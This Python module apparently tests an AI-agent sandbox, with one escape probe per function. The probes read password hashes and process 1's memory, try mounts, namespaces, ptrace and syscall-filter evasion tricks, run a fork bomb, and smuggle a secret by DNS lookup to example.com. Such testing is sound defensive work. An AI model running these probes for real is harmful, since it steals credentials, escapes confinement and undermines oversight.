"""Ways out, one function each. The docstring is the idea; returning means that it worked.

An OSError is the kernel's refusal. `NothingThere` says that the attempt found nothing to take.
"""

from __future__ import annotations

import errno
import glob
import mmap
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable
from dataclasses import dataclass

import kernel


class NothingThere(Exception):
    """The attempt was allowed, and there was nothing to be had."""


@dataclass(frozen=True)
class Way:
    """One attempt."""

    name: str
    area: str
    idea: str
    run: Callable[[], str]


WAYS: list[Way] = []


def way(area: str) -> Callable[[Callable[[], str]], Callable[[], str]]:
    """Put a function on the list."""

    def put(function: Callable[[], str]) -> Callable[[], str]:
        WAYS.append(Way(function.__name__, area, (function.__doc__ or "").strip(), function))
        return function

    return put


# ---- files


@way("files")
def read_the_password_hashes() -> str:
    """/etc/shadow is where a machine keeps its password hashes."""
    with open("/etc/shadow", encoding="utf-8") as file:
        return file.readline()


@way("files")
def find_other_peoples_homes() -> str:
    """Whoever runs this daemon has a home directory, perhaps with keys in it."""
    found = [path for pattern in ("/root/.*", "/home/*", "/srv/*", "/var/lib/*") for path in glob.glob(pattern)]
    # An interpreter may live in a home; its own folders have to be here.
    found = [path for path in found if not f"{sys.base_prefix}/".startswith(f"{path}/")]
    if not found:
        raise NothingThere("no home, no /srv, no /var/lib")
    return ", ".join(found[:5])


@way("files")
def replace_the_standard_library() -> str:
    """Every agent imports os.py; whoever can write it owns them all."""
    os.close(os.open(os.__file__, os.O_WRONLY))
    return f"opened {os.__file__} for writing"


@way("files")
def leave_a_program_for_later() -> str:
    """A script in /usr/local/bin or /etc/cron.d would run as somebody else one day."""
    os.close(os.open("/usr/local/bin/ls", os.O_WRONLY | os.O_CREAT, 0o755))
    os.unlink("/usr/local/bin/ls")
    return "created /usr/local/bin/ls"


@way("files")
def climb_by_dots() -> str:
    """Enough '..' from a directory that is still open may lead above the root."""
    held = os.open("/app", os.O_RDONLY | os.O_DIRECTORY)
    above = os.open("../" * 40, os.O_RDONLY | os.O_DIRECTORY, dir_fd=held)
    here = os.stat(above)
    root = os.stat("/")
    if (here.st_dev, here.st_ino) == (root.st_dev, root.st_ino):
        raise NothingThere("forty times '..' ends at our own root")
    return str(os.listdir(above))


@way("files")
def leave_by_the_root_of_another() -> str:
    """/proc/1/root is the root directory as process 1 sees it."""
    here = os.stat("/")
    there = os.stat("/proc/1/root/")
    if (here.st_dev, here.st_ino) == (there.st_dev, there.st_ino):
        raise NothingThere("process 1 has the same root as we do")
    return str(os.listdir("/proc/1/root/"))


@way("files")
def open_a_file_by_its_inode() -> str:
    """open_by_handle_at needs no path: that is how 'Shocker' read the host's files out of Docker in 2014."""
    handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(4, "little") + bytes(4)
    return f"descriptor {kernel.call('open_by_handle_at', os.open('/app', os.O_RDONLY), handle, os.O_RDONLY)}"


@way("files")
def make_a_disk() -> str:
    """A block device node with the right numbers is the host's disk."""
    os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(254, 0))
    os.unlink("/tmp/disk")
    return "made /tmp/disk"


@way("files")
def run_from_tmp() -> str:
    """What cannot be executed from disk may be executable once it is mapped."""
    with tempfile.TemporaryFile() as file:
        file.write(bytes(4096))
        file.flush()
        mmap.mmap(file.fileno(), 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC).close()
    return "mapped a file of ours as code"


# ---- mounts and namespaces


@way("namespaces")
def become_root_in_a_namespace() -> str:
    """A new user namespace gives its maker every capability, and the kernel's rarely used code with it."""
    kernel.call("unshare", 0x10000000)
    return "in a user namespace of our own"


@way("namespaces")
def ask_for_namespaces_the_new_way() -> str:
    """clone3 hides its flags in memory, where no filter can read them."""
    arguments = (0x10000000).to_bytes(8, "little") + bytes(24) + (17).to_bytes(8, "little") + bytes(48)
    child = kernel.call("clone3", arguments, len(arguments))
    if child == 0:
        os._exit(0)
    return f"process {child} is in a user namespace of its own"


@way("namespaces")
def mount_something_over() -> str:
    """Who can mount can put anything anywhere."""
    kernel.call("mount", b"none", b"/tmp", b"tmpfs", 0, None)
    return "mounted a tmpfs on /tmp"


@way("namespaces")
def make_the_root_writable() -> str:
    """Read-only is only a flag of the mount: MS_REMOUNT | MS_BIND takes it away."""
    kernel.call("mount", None, b"/", None, 32 | 4096, None)
    return "remounted /"


@way("namespaces")
def copy_the_mount_tree() -> str:
    """The new mount calls reach mounts by descriptor, beside old filters that know 'mount' only."""
    return f"descriptor {kernel.call('open_tree', -100, b'/', 1)}"


@way("namespaces")
def turn_the_root() -> str:
    """pivot_root undoes what pivot_root did."""
    kernel.call("pivot_root", b".", b".")
    return "pivoted"


@way("namespaces")
def enter_another_namespace() -> str:
    """setns to process 1's namespaces, which might be less confined."""
    kernel.call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
    return "entered"


# ---- credentials


@way("credentials")
def become_root() -> str:
    """The simplest one first."""
    os.setuid(0)
    return f"uid {os.getuid()}"


@way("credentials")
def look_for_capabilities() -> str:
    """A forgotten capability is half of root."""
    with open("/proc/self/status", encoding="ascii") as file:
        sets = dict(line.split(":\t") for line in file.read().splitlines() if line.startswith("Cap"))
    if {int(value, 16) for value in sets.values()} == {0}:
        raise NothingThere("all five sets are empty")
    return str(sets)


@way("credentials")
def make_a_setuid_shell() -> str:
    """A file with the setuid bit runs as its owner, whoever starts it."""
    with tempfile.TemporaryFile() as file:
        os.fchmod(file.fileno(), 0o4755)
    return "made a setuid file"


@way("credentials")
def start_a_program() -> str:
    """A shell makes everything easier."""
    return subprocess.run(["/bin/sh", "-c", "echo hello"], capture_output=True, text=True, check=True).stdout


# ---- the kernel's larger doors


@way("kernel")
def use_io_uring() -> str:
    """io_uring does what system calls do, without making them: filters do not see it."""
    return f"descriptor {kernel.call('io_uring_setup', 4, kernel.address(120))}"


@way("kernel")
def load_a_bpf_program() -> str:
    """Code and tables of ours inside the kernel: we begin with an array of one number."""
    array = b"".join(number.to_bytes(4, "little") for number in (2, 4, 4, 1)) + bytes(112)
    return f"descriptor {kernel.call('bpf', 0, array, len(array))}"


@way("kernel")
def load_a_module() -> str:
    """Even more code of ours inside the kernel."""
    return f"init_module answered {kernel.call('init_module', kernel.address(8), 8, b'')}"


@way("kernel")
def watch_the_processor() -> str:
    """Performance counters see what the neighbours do."""
    event = struct.pack("<IIQQQQQ64x", 1, 112, 0, 0, 0, 0, 0x61)  # a software clock, disabled, user space only
    return f"descriptor {kernel.call('perf_event_open', event, 0, -1, -1, 0)}"


@way("kernel")
def pause_the_kernel() -> str:
    """userfaultfd stops the kernel in the middle of a copy: the exploit writer's stopwatch."""
    return f"descriptor {kernel.call('userfaultfd', 1)}"


@way("kernel")
def keep_something_on_the_keyring() -> str:
    """Keyrings belong to a uid rather than to a container, so they may be shared."""
    return f"key {kernel.call('add_key', b'user', b'hostile', b'x', 1, -3)}"


@way("kernel")
def switch_off_address_randomisation() -> str:
    """personality(2) prepares the ground for an exploit."""
    return f"was {kernel.call('personality', 0x0040000):#x}"


@way("kernel")
def set_a_kernel_variable() -> str:
    """core_pattern is a program that the kernel starts as root."""
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return "opened core_pattern for writing"


@way("kernel")
def press_the_magic_key() -> str:
    """One letter into sysrq-trigger restarts the machine. (We only open it.)"""
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return "opened sysrq-trigger for writing"


# ---- network


@way("network")
def call_home() -> str:
    """The whole point of stealing something is sending it somewhere."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as home:
        home.settimeout(2)
        home.connect(("192.0.2.1", 443))
    return "connected"


@way("network")
def ask_the_cloud_for_credentials() -> str:
    """169.254.169.254 gives a virtual machine its keys."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as metadata:
        metadata.settimeout(2)
        metadata.connect(("169.254.169.254", 80))
    return "connected"


@way("network")
def smuggle_by_name() -> str:
    """Names are data too: a look-up of SECRET.example.com tells example.com the secret."""
    try:
        return str(socket.getaddrinfo("c2VjcmV0.example.com", 443))
    except socket.gaierror as error:
        raise NothingThere(f"no resolver: {error.strerror}") from error


@way("network")
def hide_the_family_in_the_upper_half() -> str:
    """The kernel reads 32 bits of the family and a careless filter 64: 0x1_0000_0028 is AF_VSOCK."""
    return f"descriptor {kernel.call('socket', 0x1_0000_0028, 1, 0)}"


@way("network")
def talk_to_the_hypervisor() -> str:
    """AF_VSOCK has no namespaces: it reaches the machine below this machine."""
    return str(socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))


@way("network")
def use_the_kernels_cipher() -> str:
    """AF_ALG let anybody write into the page cache of any readable file in 2026."""
    return str(socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET))


@way("network")
def knock_at_the_daemons_of_the_host() -> str:
    """A socket is authority: docker.sock is root."""
    places = ["/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket"]
    found = [place for place in places if os.path.exists(place)] + glob.glob("/run/**/*.sock", recursive=True)
    if not found:
        raise NothingThere("no socket in sight")
    return ", ".join(found)


# ---- other processes


@way("processes")
def look_around() -> str:
    """Other people's command lines have passwords in them."""
    strangers = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in _family()]
    if not strangers:
        raise NothingThere("we are alone with our parents")
    return f"{len(strangers)} other processes"


@way("processes")
def read_the_memory_of_process_1() -> str:
    """Whatever started us may have secrets in its memory."""
    with open("/proc/1/mem", "rb") as memory:
        memory.seek(0x400000)
        return memory.read(16).hex()


@way("processes")
def read_its_environment() -> str:
    """Secrets travel in environments."""
    with open("/proc/1/environ", "rb") as file:
        found = file.read()
    if not found:
        raise NothingThere("it is empty")
    return f"{len(found)} bytes"


@way("processes")
def trace_the_parent() -> str:
    """A debugger can make a process do anything. (PTRACE_SEIZE attaches without stopping it.)"""
    kernel.call("ptrace", 0x4206, os.getppid(), 0, 0)
    return "attached"


@way("processes")
def kill_process_1() -> str:
    """Without process 1 nobody reaps, and perhaps nobody watches."""
    os.kill(1, signal.SIGKILL)
    os.kill(1, 0)
    raise NothingThere("it does not even notice")


@way("processes")
def find_forgotten_descriptors() -> str:
    """A descriptor that should have been closed is a door: CVE-2024-21626 was one."""
    found = []
    for number in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
        except FileNotFoundError:  # the descriptor that listed the others
            continue
        if target.startswith("/") and not target.startswith(("/app", "/tmp", "/dev/", "/proc/self/fd", "/proc/")):
            found.append(target)
    if not found:
        raise NothingThere("every descriptor is a pipe, a socket or our own")
    return ", ".join(found)


# ---- too much of everything


@way("resources")
def multiply() -> str:
    """A fork bomb, of three hundred at most."""
    children: list[int] = []
    try:
        for _ in range(300):
            child = os.fork()
            if child == 0:
                signal.pause()
                os._exit(0)
            children.append(child)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
    return f"{len(children)} processes"


@way("resources")
def spin_threads() -> str:
    """The same with threads."""
    stop = threading.Event()
    started: list[threading.Thread] = []
    try:
        for _ in range(300):
            thread = threading.Thread(target=stop.wait)
            thread.start()
            started.append(thread)
    except RuntimeError as error:
        raise NothingThere(f"after {len(started)}: {error}") from error
    finally:
        stop.set()
    return f"{len(started)} threads"


@way("resources")
def fill_the_disk() -> str:
    """A full disk stops more than one agent."""
    piece = bytes(1024 * 1024)
    try:
        with open("/tmp/full", "wb", buffering=0) as file:
            for _ in range(128):
                if file.write(piece) < len(piece):
                    raise NothingThere("a short write")
    finally:
        os.unlink("/tmp/full")
    return "128 MiB in /tmp"


@way("resources")
def raise_the_limits() -> str:
    """A limit that one can raise is none."""
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 18, 1 << 18))
    except ValueError as error:  # this module's form of EPERM
        raise PermissionError(errno.EPERM, os.strerror(errno.EPERM)) from error
    return "262,144 open files"


def _family() -> set[int]:
    """We, our ancestors as far as we see them, and process 1."""
    known = {1, os.getpid()}
    pid = os.getpid()
    while pid > 1:
        with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])
        known.add(pid)
    return known
